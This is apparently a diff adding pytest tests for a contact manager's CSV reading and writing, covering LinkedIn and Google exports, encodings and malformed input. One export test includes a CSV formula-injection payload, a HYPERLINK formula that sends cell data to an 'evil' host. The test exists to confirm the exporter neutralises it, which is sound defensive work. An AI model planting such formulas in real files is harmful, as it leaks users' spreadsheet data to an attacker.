@@ -1,0 +1,117 @@
+"""CSV exports of LinkedIn, Google, Outlook and Thunderbird; our own CSV out and back."""
+
+import io
+
+import pytest
+
+from networker.domain.contacts import ContactDraft, LabeledValue, Source
+from networker.formats.csv_formats import guard, read_csv, write_csv_rows
+from networker.formats.reports import ParsedRecord, RecordProblem, UnreadableFileError
+
+LINKEDIN = (
+    "Notes:\n"
+    '"When exporting your connection data, you may notice that some of the email addresses '
+    'are missing."\n\n'
+    "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
+    "Amara,Okafor,https://www.linkedin.com/in/amara-okafor,amara@lumen.example,Lumen Health,"
+    "Head of Product,12 Mar 2024\n"
+    "Lars,Svensson,https://www.linkedin.com/in/lars,,Nordic Design Guild,Director,01 Feb 2023\n"
+)
+
+
+def records(data, encoding="utf-8"):
+    raw = data.encode(encoding) if isinstance(data, str) else data
+    return list(read_csv(io.BytesIO(raw)))
+
+
+def test_linkedin_connections_with_the_notes_preamble():
+    amara, lars = records(LINKEDIN)
+    assert amara.line == 5
+    draft = amara.draft
+    assert (draft.given_name, draft.family_name) == ("Amara", "Okafor")
+    assert (draft.organization, draft.title) == ("Lumen Health", "Head of Product")
+    assert draft.emails == [LabeledValue("", "amara@lumen.example")]
+    assert draft.urls == [LabeledValue("LinkedIn", "https://www.linkedin.com/in/amara-okafor")]
+    assert draft.source is Source.ONLINE
+    assert draft.how_we_met == "Connected on LinkedIn on 12 Mar 2024"
+    assert lars.draft.emails == []
+
+
+def test_an_old_linkedin_export_without_preamble_or_url():
+    (row,) = records("First Name,Last Name,Email Address,Company,Position,Connected On\n"
+                     "Ada,Lovelace,ada@x.example,Engines,Countess,01 Jan 2018\n")  # fmt: skip
+    assert row.draft.organization == "Engines" and row.draft.urls == []
+
+
+def test_google_multi_values_and_groups():
+    data = (
+        "Name,Given Name,Family Name,Group Membership,E-mail 1 - Type,E-mail 1 - Value,"
+        "Phone 1 - Type,Phone 1 - Value,Organization 1 - Name,Organization 1 - Title\n"
+        "Ada Lovelace,Ada,Lovelace,* myContacts ::: Mentors,* Work,a@x.example ::: b@x.example,"
+        "Mobile,+44 1,Engines,Countess\n"
+    )
+    (row,) = records(data)
+    assert [e.value for e in row.draft.emails] == ["a@x.example", "b@x.example"]
+    assert row.draft.emails[0].label == "work"
+    assert row.draft.tags == ["Mentors"]
+    assert row.draft.display_name == "Ada Lovelace"
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig", "cp1252"])
+def test_encodings(encoding):
+    data = "First Name,Last Name,E-mail Address\nZoë,Ångström,z@x.example\n"
+    (row,) = records(data, encoding)
+    assert (row.draft.given_name, row.draft.family_name) == ("Zoë", "Ångström")
+
+
+def test_semicolon_delimited_european_excel():
+    (row,) = records("First Name;Last Name;E-mail Address\nJean;Dupont;j@x.example\n")
+    assert row.draft.emails[0].value == "j@x.example"
+
+
+def test_an_unterminated_quote_is_reported_with_its_line_and_swallows_nothing_silently():
+    rows = ["First Name,Last Name,E-mail Address", "A,One,a@x.example",
+            'B,"Two,b@x.example'] + [f"P{i},Person,p{i}@x.example" for i in range(997)]  # fmt: skip
+    found = records("\n".join(rows) + "\n")
+    assert isinstance(found[0], ParsedRecord)
+    problem = found[-1]
+    assert isinstance(problem, RecordProblem)
+    assert problem.line == 3 and "cannot be read" in problem.reason
+    assert len(found) == 2
+
+
+def test_a_200_kb_notes_field_and_nul_bytes_do_not_break_reading():
+    notes = "n" * 200_000
+    (row,) = records(f'First Name,Last Name,E-mail Address,Notes\nA,B\x00,a@x.example,"{notes}"\n')
+    assert len(row.draft.notes) == 200_000
+
+
+def test_unknown_columns_are_refused_with_a_reason():
+    with pytest.raises(UnreadableFileError, match="columns"):
+        records("Foo,Bar\n1,2\n")
+
+
+def test_our_csv_neutralises_formulas_and_reads_back_what_it_wrote():
+    drafts = [
+        ContactDraft(
+            given_name="=HYPERLINK(\"http://evil/?\"&A2,\"x\")", family_name="@SUM(1)",
+            organization="-2+3", phones=[LabeledValue("mobile", "+1 555 0100")],
+            emails=[LabeledValue("work", "a=b@x.example")], notes="line\nbreak, \"quoted\"",
+            tags=["mentor", "design"], strength=4, cadence_days=30, uid="urn:uuid:1",
+            urls=[LabeledValue("website", "https://x.example/?a=b")], source=Source.EVENT,
+        )
+    ]  # fmt: skip
+    out = io.StringIO()
+    assert write_csv_rows(iter(drafts), out) == 1
+    text = out.getvalue()
+    assert "'=HYPERLINK" in text and "'@SUM(1)" in text and "'-2+3" in text
+    assert text.splitlines()[0].startswith("Display Name,Given Name,Family Name")
+    (back,) = records(text)
+    expected = ContactDraft(**{**drafts[0].__dict__, "display_name": back.draft.display_name})
+    assert back.draft == expected
+
+
+def test_guard():
+    assert guard("=1+1") == "'=1+1"
+    assert guard("\tx") == "'\tx"
+    assert guard("Ada") == "Ada"
